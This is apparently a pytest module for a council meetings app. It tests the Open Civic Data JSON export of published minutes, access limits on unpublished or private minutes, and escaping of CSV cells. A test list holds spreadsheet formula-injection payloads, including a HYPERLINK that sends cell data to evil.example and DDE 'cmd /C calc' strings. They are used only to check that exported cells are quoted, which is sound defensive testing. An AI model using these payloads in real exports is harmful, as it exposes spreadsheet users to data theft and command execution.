"""Published minutes as Open Civic Data JSON: the meeting as an OCD event, its decisions
as vote events; the same for everyone, and only once published by a public body."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

import pytest
from flask.testing import FlaskClient

from meetings.application import MeetingsApplication
from tests.web.conftest import Json
from tests.web.support import agree_action, get, make_body, make_person, ok, problem
from tests.web.test_feeds import (
    AMENDED,
    BASE_URL,
    MALFORMED_IDS,
    UNKNOWN,
    assert_nothing_confidential,
    publish_everything,
    publish_meeting,
)
from tests.web.test_minutes_api import Recorded, _record_everything, _to_approval
from web.pages.csv_safe import csv_text


@pytest.fixture(autouse=True)
def _base_url(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MEETINGS_BASE_URL", BASE_URL)


@pytest.fixture
def published(client: FlaskClient, admin: str, clerk: str, body: Json, body_chair: str) -> Recorded:
    return publish_everything(client, admin, clerk, body, body_chair)


def ocd(client: FlaskClient, meeting_id: str, token: str | None = None) -> Json:
    answer: Json = ok(get(client, f"/meetings/{meeting_id}/minutes/ocd", token))
    assert_nothing_confidential(json.dumps(answer))
    return answer


def test_the_meeting_is_an_ocd_event(client: FlaskClient, published: Recorded) -> None:
    r = published
    event = ocd(client, r.meeting["id"])
    assert event["_type"] == "event" and event["id"] == f"ocd-event/{r.meeting['id']}"
    assert event["name"] == "Health and Wellbeing Board (ordinary meeting)"
    assert event["classification"] == "committee-meeting" and event["status"] == "passed"
    assert event["timezone"] == "Europe/London" and event["all_day"] is False
    starts = datetime.fromisoformat(event["start_date"])
    assert starts == datetime.fromisoformat(r.meeting["starts_at"])
    assert datetime.fromisoformat(event["end_date"]).hour == 12
    assert event["location"] == {"name": "The Gateway"}
    page = f"http://localhost/meetings/{r.meeting['id']}"
    assert {"url": page, "note": "The meeting's published page"} in event["sources"]
    [minutes] = [d for d in event["documents"] if d["note"] == "Minutes"]
    assert minutes["url"] == f"{page}/minutes.html" and minutes["media_type"] == "text/html"
    extras = event["extras"]
    assert extras["minutes_status"] == "published" and extras["published_at"]
    assert extras["approved_by"] == f"ocd-event/{r.later['id']}" and extras["approved_at"]
    assert extras["withheld_items"] == ["2"]


def test_every_participant_is_noted_with_how_they_attended(
    client: FlaskClient, published: Recorded
) -> None:
    participants = ocd(client, published.meeting["id"])["participants"]
    noted = {(p["name"], p["entity_type"], p["note"]) for p in participants}
    assert noted == {
        ("Health and Wellbeing Board", "organization", "host"),
        ("Liz Leader", "person", "present"),
        ("Ian Inspector", "person", "substitute for Sid Superintendent"),
        ("Ada Adviser", "person", "adviser"),
        ("Olu Officer", "person", "officer"),
        ("Gita Guest", "person", "guest, admitted by the chair"),
        ("Ann Apologies", "person", "apologies"),
        ("Abe Absent", "person", "absent"),
    }
    assert len(participants) == len(noted)


def test_the_agenda_carries_each_items_minute_and_withholds_the_confidential_one(
    client: FlaskClient, published: Recorded
) -> None:
    event = ocd(client, published.meeting["id"])
    plan, secret, deferred = event["agenda"]
    assert [plan["order"], secret["order"], deferred["order"]] == ["1", "2", "3"]
    assert plan["description"] == "Better Care Fund plan"
    assert plan["notes"] == [
        "Liz Leader declared an interest (Trustee of a care charity).",
        AMENDED,  # the narrative as approved replaces the one circulated
        "Decision: Approved the Better Care Fund plan. Agreed by consensus.",
        "Action: Submit the plan to NHS England. Owner: Ada Adviser "
        "(Buckinghamshire Council). Due 2026-03-01.",
    ]
    assert {(e["name"], e["note"]) for e in plan["related_entities"]} == {
        ("Liz Leader", "declared an interest"),
        ("Ada Adviser", "owns an action"),
        ("Buckinghamshire Council", "responsible for an action"),
    }
    assert secret["description"] == "Confidential item"
    assert secret["notes"] == ["Withheld from publication: commercially sensitive."]
    assert secret["related_entities"] == []
    assert deferred["notes"] == ["Deferred: The strategy paper was not ready."]
    extras = event["extras"]
    assert extras["declarations"] == [
        {
            "person_name": "Liz Leader",
            "order": "1",
            "interest": "Trustee of a care charity",
            "withdrew": False,
        }
    ]
    assert extras["actions"] == [
        {
            "order": "1",
            "description": "Submit the plan to NHS England",
            "owner_name": "Ada Adviser",
            "organisation_name": "Buckinghamshire Council",
            "due_on": "2026-03-01",
        }
    ]
    [amendment] = extras["amendments"]
    assert amendment["order"] == "1" and amendment["text"] == AMENDED
    assert amendment["original"] == "The board discussed the plan."


def test_a_decision_by_consensus_is_a_vote_event_without_counts(
    client: FlaskClient, published: Recorded
) -> None:
    [vote] = ocd(client, published.meeting["id"])["vote_events"]
    assert vote["_type"] == "vote_event"
    assert vote["id"] == f"ocd-vote/{published.decision['id']}"
    assert vote["motion_text"] == "Approved the Better Care Fund plan."
    assert vote["result"] == "pass" and vote["counts"] == []
    assert vote["organization"] == "Health and Wellbeing Board"
    assert vote["agenda_item"] == {"order": "1", "description": "Better Care Fund plan"}
    assert vote["extras"]["method"] == "consensus"
    assert vote["extras"]["requires_ratification"] is False
    assert vote["extras"]["referred_to"] is None


def test_a_vote_is_exported_with_its_counts_and_what_was_only_noted_is_not(
    app: MeetingsApplication, client: FlaskClient, admin: str
) -> None:
    board = make_body(
        client, admin, name="Safer Communities Board", short_name="SCB", decision_method="vote"
    )
    referee = make_body(client, admin, name="Community Safety Partnership", short_name="CSP")
    carried = {"for": 5, "against": 2, "abstain": 1}
    meeting = publish_meeting(
        app,
        client,
        admin,
        board["id"],
        {"text": "Adopted the strategy.", "method": "vote", "votes": carried},
        {
            "text": "Rejected the new budget.",
            "method": "vote",
            "votes": {"for": 1, "against": 4, "abstain": 0},
            "within_delegated_authority": False,
            "referred_to": referee["id"],
        },
        {"text": "Noted the performance report.", "method": "noted"},
    )
    event = ocd(client, meeting["id"])
    passed, failed = event["vote_events"]
    assert passed["result"] == "pass" and passed["counts"] == [
        {"option": "yes", "value": 5},
        {"option": "no", "value": 2},
        {"option": "abstain", "value": 1},
    ]
    assert passed["extras"]["method"] == "vote"
    assert failed["result"] == "fail" and failed["counts"][1] == {"option": "no", "value": 4}
    assert failed["extras"]["requires_ratification"] is True
    assert failed["extras"]["referred_to"] == "Community Safety Partnership"
    assert failed["extras"]["referred_to_id"] == referee["id"]
    [item] = event["agenda"]
    assert item["notes"][:2] == ["Paper: Strategy 2026.", "Paper: Budget."]
    [paper] = [d for d in event["documents"] if d["note"] != "Minutes"]
    assert paper["note"] == "Item 1: Strategy 2026"
    assert paper["url"] == "https://example.org/strategy.pdf" == paper["links"][0]["url"]
    assert "Decision: Noted the performance report. Noted." in item["notes"]
    assert (
        "Decision: Adopted the strategy. Decided by vote: 5 for, 2 against, 1 abstaining."
        in (item["notes"])
    )
    assert ("Community Safety Partnership", "a decision was referred to it") in {
        (e["name"], e["note"]) for e in item["related_entities"]
    }


def test_signed_in_readers_get_the_same_published_export(
    client: FlaskClient, clerk: str, admin: str, published: Recorded
) -> None:
    public = ocd(client, published.meeting["id"])
    assert ocd(client, published.meeting["id"], clerk) == public
    assert ocd(client, published.meeting["id"], admin) == public


def test_no_export_unless_published_by_a_public_body(
    app: MeetingsApplication,
    client: FlaskClient,
    admin: str,
    clerk: str,
    body: Json,
    body_chair: str,
) -> None:
    r = _record_everything(client, admin, clerk, body)
    path = f"/meetings/{r.meeting['id']}/minutes/ocd"
    problem(get(client, path, None), 404)
    problem(get(client, path, clerk), 404)
    _to_approval(client, clerk, body_chair, r)
    problem(get(client, path, None), 404)
    private = make_body(client, admin, name="Adult Safeguarding Board", open_to_public=False)
    hidden = publish_meeting(app, client, admin, private["id"], {"text": "Agreed."})
    problem(get(client, f"/meetings/{hidden['id']}/minutes/ocd", admin), 404)
    problem(get(client, f"/meetings/{UNKNOWN}/minutes/ocd", None), 404)
    problem(get(client, f"/meetings/{body['id']}/minutes/ocd", None), 404)
    for meeting_id in MALFORMED_IDS:
        problem(get(client, f"/meetings/{meeting_id}/minutes/ocd", None), 404)


def test_the_openapi_document_describes_the_export(client: FlaskClient) -> None:
    spec = client.get("/api/v1/openapi.json").get_json()
    operation = spec["paths"]["/api/v1/meetings/{meeting_id}/minutes/ocd"]["get"]
    assert {"200", "404"} <= set(operation["responses"])
    ref = operation["responses"]["200"]["content"]["application/json"]["schema"]["$ref"]
    schema = spec["components"]["schemas"][ref.rsplit("/", 1)[1]]
    assert {"_type", "id", "participants", "agenda", "vote_events", "extras"} <= set(
        schema["properties"]
    )


# CSV ------------------------------------------------------------------------------------

#: What an attacker types for a spreadsheet to run, and the owner's name they choose.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


@pytest.mark.parametrize("value", [*FORMULAS, "\t=1+1", "\r=1+1", "\n=1+1"])
def test_a_csv_cell_that_could_start_a_formula_is_quoted(value: str) -> None:
    text = csv_text(["description", "count"], [{"description": value, "count": -3}])
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row == {"description": "'" + value, "count": "-3"}


def test_ordinary_csv_cells_are_left_as_they_are() -> None:
    rows = [{"a": "Review CCTV", "b": "2026-03-01", "c": None, "d": True, "e": "Ann = Bob"}]
    assert csv_text("abcde", rows) == "a,b,c,d,e\r\nReview CCTV,2026-03-01,,True,Ann = Bob\r\n"


def test_the_action_tracker_csv_never_hands_a_spreadsheet_a_formula(
    client: FlaskClient, admin: str, clerk: str, scrutiny: str, live: tuple[Json, Json]
) -> None:
    meeting, item = live
    owner = make_person(client, admin, name="=1+2")
    for description in FORMULAS:
        agree_action(client, clerk, meeting["id"], item["id"], owner["id"], description=description)
    answer = get(client, "/actions.csv", scrutiny, query_string={"body_id": meeting["body_id"]})
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    assert sorted(r["description"] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert {r["owner_name"] for r in rows} == {"'=1+2"}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row
